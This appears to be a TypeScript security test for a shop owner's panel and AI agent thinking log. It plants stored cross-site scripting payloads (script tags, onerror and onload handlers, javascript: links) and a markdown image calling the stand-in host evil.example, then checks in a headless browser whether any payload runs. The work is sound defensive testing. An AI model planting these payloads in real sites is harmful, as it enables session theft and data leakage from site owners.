// Attacks on the eyes of the owner: scripts in names, messages, file names and products, shown in the panel or opened from it.
import { existsSync } from 'node:fs';
import { chromium } from 'playwright-core';
import type { Attack, Outcome } from './attack.ts';
import { outcomeOf } from './attack.ts';
import type { Target } from './target.ts';

const kind = 'stored script';
const browserPath = '/usr/bin/chromium';
const scripts = (place: string): string[] => [
  `<script>window.stolen='${place}'</script>`,
  `"><img src=x onerror="window.stolen='${place}'">`,
  `<svg/onload=window.stolen='${place}'>`,
  `[${place}](javascript:window.stolen='${place}')`,
  `![](https://evil.example/?q=${place})`,
];

/** Everything a stranger can write, with a script in it. */
async function plant({ nexus, victim }: Target): Promise<void> {
  const customer = victim.shop.customer('+5491155550777', scripts('nombre')[1] ?? '');
  for (const text of scripts('mensaje')) await customer.writes(text);
  for (const [mime_type, content] of [
    ['application/pdf', '<html><script>window.stolen=1</script></html>'],
    ['text/html', '<html><script>window.stolen=1</script></html>'],
    ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="window.stolen=1"/>'],
    ['text/plain', '<html><script>window.stolen=1</script></html>'],
  ])
    await customer.sends({
      type: 'document',
      media_base64: Buffer.from(content ?? '').toString('base64'),
      mime_type,
      filename: scripts('archivo')[1],
      caption: scripts('epígrafe')[2],
    });
  await nexus.settle(60_000);
  const products = `${nexus.simulators.tiendanube.url}/2025-03/1001/products`;
  const headers = {
    authentication: 'bearer simulated-store-token',
    'user-agent': 'attack (a@example.com)',
    'content-type': 'application/json',
  };
  const [product] = (await (await fetch(`${products}?per_page=1`, { headers })).json()) as {
    id: number;
    name: { es: string };
  }[];
  await fetch(`${products}/${product?.id}`, {
    method: 'PUT',
    headers,
    body: JSON.stringify({
      name: { es: `${product?.name.es} ${scripts('producto')[1]}` },
      description: { es: scripts('descripción')[0] },
    }),
  });
  await customer.writes(`Hola! Tenés ${product?.name.es}?`);
  await nexus.settle(60_000);
}

/** Opens every screen as the owner and every thinking log of the thread. */
async function look({ panel, owner, nexus, victim }: Target): Promise<Outcome> {
  if (!existsSync(browserPath)) return { tried: 'not tried', seen: `needs ${browserPath}`, held: null };
  const browser = await chromium.launch({
    executablePath: browserPath,
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run'],
  });
  try {
    const context = await browser.newContext();
    const [name = '', value = ''] = (owner.cookie ?? '').split('=');
    await context.addCookies([{ name, value, url: panel.url }]);
    const page = await context.newPage();
    page.setDefaultTimeout(120_000);
    const strayed: string[] = [];
    page.on('dialog', (dialog) => void dialog.dismiss().then(() => strayed.push('a dialog')));
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) strayed.push(request.url());
    });
    const [{ id } = { id: '' }] = await nexus.rows<{ id: string }>(
      `select c.id from conversations c join customers k on k.tenant_id = c.tenant_id and k.id = c.customer_id where c.tenant_id = $1 and k.phone like '%777'`,
      [victim.tenantId],
    );
    const verdicts: string[] = [];
    let thinking = '';
    for (const path of [`/conversations/${id}`, '/agents', '/setup', '/handoff']) {
      await page.goto(panel.url + path, { waitUntil: 'load' });
      if (path.includes(id)) await page.getByTestId('message-bubble').first().waitFor();
      for (const button of await page.getByTestId('thinking-open').all()) {
        await button.click();
        const open = page.getByTestId('thinking-panel').last();
        await open.getByTestId('thinking-step').first().waitFor();
        thinking += await open.innerText();
        await page.keyboard.press('Escape');
      }
      await page.waitForTimeout(1000);
      const stolen = await page.evaluate(() => (globalThis as { stolen?: string }).stolen ?? null);
      verdicts.push(stolen === null ? 'shown as text' : `ran in ${stolen}`);
    }
    await page.goto(`${panel.url}/conversations/${id}`, { waitUntil: 'load' });
    await page.getByTestId('message-bubble').first().waitFor();
    const bubbles = (await page.getByTestId('message-bubble').allInnerTexts()).join('\n');
    // The product's script stands in the tool's result, so that the log must show it.
    const shown = bubbles.includes('<script>window.stolen') && thinking.includes('<img src=x onerror=');
    const links = await page.locator('a[href^="javascript:"]').count();
    return outcomeOf(verdicts, /^shown as text$/, shown && links === 0 && strayed.length === 0);
  } finally {
    await browser.close();
  }
}

/** What the customer's file is served as. */
async function open({ nexus, victim }: Target): Promise<Outcome> {
  const customer = victim.shop.customer('+5491155550777');
  const verdicts: string[] = [];
  let safe = true;
  for (const { media } of await customer.messages()) {
    if (!media?.url) continue;
    const answer = await fetch(nexus.url + media.url);
    await answer.arrayBuffer();
    const [type, disposition] = [
      answer.headers.get('content-type') ?? '',
      answer.headers.get('content-disposition') ?? '',
    ];
    verdicts.push(`${type}, ${disposition.split(';')[0]}`);
    const policy = answer.headers.get('content-security-policy') ?? '';
    safe &&=
      answer.headers.get('x-content-type-options') === 'nosniff' &&
      policy.includes('sandbox') &&
      !/[<>\r\n]/.test(disposition);
  }
  const refused = await nexus.rows(`select 1 from media where tenant_id = $1 and status = 'failed'`, [victim.tenantId]);
  verdicts.push(...refused.map(() => 'not what it says: not kept'));
  return outcomeOf(
    verdicts,
    /^(not what it says: not kept|application\/octet-stream, attachment|(image\/(jpeg|png|webp|gif)|audio\/\S+), inline)$/,
    safe,
  );
}

export const storedScript: Attack[] = [
  {
    kind,
    name: 'in a customer’s name, messages and file name, and in a product, read in the panel and its thinking log',
    run: async (target) => {
      await plant(target);
      return look(target);
    },
  },
  { kind, name: 'in a customer’s file, opened from its address', run: open },
];
